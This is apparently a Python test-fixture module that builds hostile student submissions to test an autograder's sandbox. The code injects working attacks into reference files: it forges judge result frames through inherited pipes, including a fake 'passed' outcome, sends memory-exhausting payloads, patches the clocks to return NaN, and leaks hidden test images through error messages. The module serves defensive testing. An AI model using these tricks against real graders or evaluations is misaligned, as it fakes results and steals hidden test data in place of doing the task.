"""The hostile-input corpus of round 2 (issue 11): one builder per attack on the grader.

Each builder returns the files of a submission (name -> text or bytes) that carries out one attack from inside
the sandbox; tests/test_hostile_round2.py grades them with the real engine and sandbox and checks the outcome.
Attack code reaches the judge's channel the way real student code would: it finds the write end of a pipe
among its file descriptors, and reads the op it is running from the harness's stack frame.
"""

from __future__ import annotations

from tests.conftest import reference_file

REF_NUMPY = reference_file("numpy_nn.py").decode()
REF_TORCH = reference_file("pytorch_cnn.py").decode()
LINEAR_FWD = "        return x @ self.W + self.b"

FORGE = r'''
import fcntl as _fcntl, json as _json, os as _os, struct as _struct, sys as _sys


def _channels():
    fds = []
    for fd in range(3, 256):
        try:
            if _os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and \
                    _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY:
                fds.append(fd)
        except OSError:
            pass
    return fds


def _frame(body_json: bytes, payload_tail: bytes = b"", arrays: str = "[]") -> bytes:
    header = b'{"body": ' + body_json + b', "arrays": ' + arrays.encode() + b"}"
    p = _struct.pack(">I", len(header)) + header + payload_tail
    return _struct.pack(">I", len(p)) + p


def _send(data: bytes) -> None:
    for fd in _channels():
        try:
            _os.write(fd, data)
        except OSError:
            pass


def _current_op():
    f = _sys._getframe()
    while f is not None:
        if "gi" in f.f_locals and "i" in f.f_locals and "request" in f.f_locals:
            return f.f_locals["request"], f.f_locals["gi"], f.f_locals["i"]
        f = f.f_back
    raise RuntimeError("harness frame not found")
'''


def _numpy(prelude: str = "", forward: str | None = None) -> dict[str, str]:
    src = REF_NUMPY
    if forward is not None:
        body = "\n".join("        " + line for line in forward.strip().splitlines())
        assert LINEAR_FWD in src
        src = src.replace(LINEAR_FWD, body + "\n" + LINEAR_FWD, 1)
    future = "from __future__ import annotations\n"
    return {"numpy_nn.py": src.replace(future, future + FORGE + prelude + "\n", 1)}


def giant_nested_list_frame(mib: int = 64) -> dict[str, str]:
    """Each Linear.forward sends a forged result of `mib` MiB of nested empty lists, then crashes the sandbox
    (which restarts for the next check and does it again): the review's 3.0 / 5.9 / 8.8 GiB attack."""
    return _numpy(forward=f"""
_req, _g, _i = _current_op()
_send(_frame(b'{{"t": "result", "g": %d, "i": %d, "value": [' % (_g, _i) + b"[]," * ({mib} * 2**20 // 3) + b"[]]}}"))
_os._exit(1)
""")


def many_big_valid_frames(lists: int = 34) -> dict[str, str]:
    """Linear.forward forges, in the judge's expected order, results for its own op and every later op of the
    plan, each just under the header cap and made of nested empty lists (the most objects per byte: `lists`
    lists of 10,000 empty lists, the most one list may hold)."""
    return _numpy(forward=f"""
_req, _g, _i = _current_op()
_chunk = b"[" + b"[]," * 9999 + b"[]]"
_blob = b"[" + b",".join([_chunk] * {lists}) + b"]"
_first = True
for _grp in _req["groups"]:
    if _grp["index"] < _g:
        continue
    for _j in range(len(_grp["ops"])):
        if _grp["index"] == _g and _j < _i:
            continue
        if not _first:
            _send(_frame(b'{{"t": "start", "g": %d, "i": %d}}' % (_grp["index"], _j)))
        _first = False
        _send(_frame(b'{{"t": "result", "g": %d, "i": %d, "value": ' % (_grp["index"], _j) + _blob + b"}}"))
_os._exit(1)
""")


def nan_clock() -> dict[str, str]:
    """time.perf_counter and time.monotonic return NaN inside the sandbox; a forged result carries "s": NaN."""
    return _numpy(prelude="""
import time as _time
_time.perf_counter = lambda: float("nan")
_time.monotonic = lambda: float("nan")
""", forward="""
_req, _g, _i = _current_op()
_send(_frame(b'{"t": "result", "g": %d, "i": %d, "s": NaN, "value": {"$float": "nan"}}' % (_g, _i)))
""")


def malformed_frame(kind: str) -> dict[str, str]:
    """Linear.forward sends one malformed result frame of the given kind for its own op."""
    bodies = {
        "shape_overflow": ("b'{\"t\": \"result\", \"g\": %d, \"i\": %d, \"value\": {\"$nd\": 0}}' % (_g, _i)",
                           '[{"dtype": "float64", "shape": [4294967296, 4294967296, 4294967296], "offset": 0, '
                           '"nbytes": 0}]'),
        "huge_number": ("b'{\"t\": \"result\", \"g\": %d, \"i\": %d, \"value\": 1e999999}' % (_g, _i)", "[]"),
        "long_integer": ("b'{\"t\": \"result\", \"g\": %d, \"i\": %d, \"value\": ' % (_g, _i) + b'9' * 5000 + b'}'",
                         "[]"),
        "big_integer_ok": ("b'{\"t\": \"result\", \"g\": %d, \"i\": %d, \"value\": ' % (_g, _i) + b'9' * 300 + b'}'",
                           "[]"),
        "unknown_kind": ("b'{\"t\": \"results\", \"g\": %d, \"i\": %d, \"value\": 1}' % (_g, _i)", "[]"),
        "extra_field": ("b'{\"t\": \"result\", \"g\": %d, \"i\": %d, \"value\": 1, \"ok\": true}' % (_g, _i)",
                        "[]"),
        "forged_outcome": ("b'{\"t\": \"result\", \"g\": %d, \"i\": %d, \"error\": {\"outcome\": \"passed\", "
                           "\"type\": \"E\", \"message\": \"\", \"where\": \"\"}}' % (_g, _i)", "[]"),
        "deep_nesting": ("b'{\"t\": \"result\", \"g\": %d, \"i\": %d, \"value\": ' % (_g, _i) + b'[' * 100000 + "
                         "b']' * 100000 + b'}'", "[]"),
    }
    body, arrays = bodies[kind]
    return _numpy(forward=f"""
_req, _g, _i = _current_op()
_send(_frame({body}, arrays={arrays!r}))
import time as _t
_t.sleep(2)  # the judge reads the frame; then the process ends, as a forger's would
_os._exit(3)
""")


def hidden_image_smuggler(assignment_module: str = "pytorch_cnn") -> dict[str, str]:
    """classify() keeps every hidden image it is given and raises with as many pixels as fit in a message
    (hex); at import it also looks for hidden sets, and later checks try again with the stash."""
    stash = r'''
import glob as _glob, os as _os
STASH = []
SEEN_AT_IMPORT = sorted(_glob.glob("/job/data/*")) + sorted(_glob.glob("/job/in/d*.npy"))


def _leak(x):
    import numpy as _np
    STASH.append(_np.asarray(x))
    flat = (_np.concatenate([s.reshape(-1) for s in STASH]) * 255).round().astype(_np.uint8)
    raise RuntimeError("PIX" + flat[:5000].tobytes().hex())
'''
    head = "def classify(model: nn.Module, x: torch.Tensor) -> torch.Tensor:"
    assert head in REF_TORCH, "the reference classify signature changed"
    src = REF_TORCH.replace(head, stash + "\n\n" + head + "\n    _leak(x)", 1)
    return {"pytorch_cnn.py": src}


def tensor_subclass_constant_classify() -> dict[str, str]:
    """MyNet.forward returns a torch.Tensor subclass and classify returns class 0 for everything."""
    src = REF_TORCH + '''

import torch as _torch


class _Sneaky(_torch.Tensor):
    pass


_forward = MyNet.forward
MyNet.forward = lambda self, x: _forward(self, x).as_subclass(_Sneaky)


def classify(model, x):  # noqa: F811 - the constant classifier the subclass was meant to hide
    return _torch.zeros(len(x), dtype=_torch.int64)
'''
    return {"pytorch_cnn.py": src}


def forged_progress_flood(frames: int = 5000) -> dict[str, str]:
    """At import, forge thousands of "start" frames for every planned check (the review's 4,188 posts)."""
    return _numpy(prelude=f"""
import json as _j
_req = _j.load(open("/job/in/request.json"))
for _n in range({frames}):
    for _grp in _req["groups"]:
        _send(_frame(b'{{"t": "start", "g": %d, "i": 0}}' % _grp["index"]))
""")


def endless_forward() -> dict[str, str]:
    """MyNet.forward never returns (an honest bug: a while loop whose condition never changes)."""
    src = REF_TORCH
    marker = "class MyNet"
    assert marker in src
    src += '''

_orig_forward = MyNet.forward


def _endless(self, x):
    n = 0
    while n >= 0:
        n += 1
    return _orig_forward(self, x)


MyNet.forward = _endless
'''
    return {"pytorch_cnn.py": src}
